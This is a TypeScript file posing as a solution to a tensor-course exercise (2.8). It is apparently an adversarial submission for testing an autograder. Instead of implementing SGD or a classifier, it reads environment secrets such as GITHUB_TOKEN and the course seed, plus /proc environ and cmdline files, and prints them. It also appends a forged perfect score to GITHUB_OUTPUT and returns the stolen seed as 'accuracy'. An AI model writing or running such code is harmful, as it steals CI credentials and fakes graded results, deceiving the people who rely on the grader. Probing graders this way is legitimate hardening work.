// attack: read the seed and secrets: process.env.COURSE_SEED, Deno.env.toObject(), Deno.args, GITHUB_TOKEN, GITHUB_OUTPUT (and write a passing result there), /proc/self/environ
// exercise: 2.8
import type { Tensor } from '@gradschool/tensor';

const D = (globalThis as any).Deno;
const proc = (globalThis as any).process;
const found: Record<string, unknown> = {};

const reads: [string, () => unknown][] = [
  ['process.env.COURSE_SEED', () => proc.env.COURSE_SEED],
  ['process.env.GITHUB_TOKEN', () => proc.env.GITHUB_TOKEN],
  ['Deno.env.toObject()', () => D.env.toObject()],
  ['Deno.env.get(GITHUB_TOKEN)', () => D.env.get('GITHUB_TOKEN')],
  ['Deno.env.get(HOME)', () => D.env.get('HOME')],
  ['/proc/self/environ', () => D.readTextFileSync('/proc/self/environ')],
  ['/proc/<parent>/environ', () => D.readTextFileSync(`/proc/${D.ppid}/environ`)],
  ['/proc/<parent>/cmdline', () => D.readTextFileSync(`/proc/${D.ppid}/cmdline`)],
  ['process.argv', () => proc.argv.slice(2).join(' ')],
  ['Deno.hostname()', () => D.hostname()],
  ['Deno.osRelease()', () => D.osRelease()],
  ['Deno.networkInterfaces()', () => D.networkInterfaces().length],
];
for (const [what, read] of reads) {
  try {
    const value = read();
    if (value !== undefined && value !== '' && !(typeof value === 'object' && Object.keys(value as object).length === 0)) found[what] = value;
  } catch {}
}
for (const [what, value] of Object.entries(found)) {
  if (what !== 'process.argv') console.log(`LEAK: ${what} = ${JSON.stringify(value).slice(0, 200)}`);
}
try {
  const out = D.env.get('GITHUB_OUTPUT') ?? proc.env.GITHUB_OUTPUT;
  if (out) D.writeTextFileSync(out, `result=${btoa(JSON.stringify({ totalScore: 100, maxScore: 100 }))}\n`, { append: true });
} catch {}

// Deno.args holds the runner's configuration: print what it says
try { console.log(`Deno.args says: ${String(D.args[0]).slice(0, 120)}`); } catch {}

export class SgdMomentum {
  constructor(params: unknown, options: unknown) {}
  step(grads: unknown): void {}
}

export function trainClassifier(x: Tensor, y: Tensor, options: unknown): unknown {
  return { predict: (z: Tensor) => z, losses: [0] };
}

export function accuracy(predictions: Tensor, targets: Tensor): number {
  return Number(found['process.env.COURSE_SEED'] ?? 0);
}
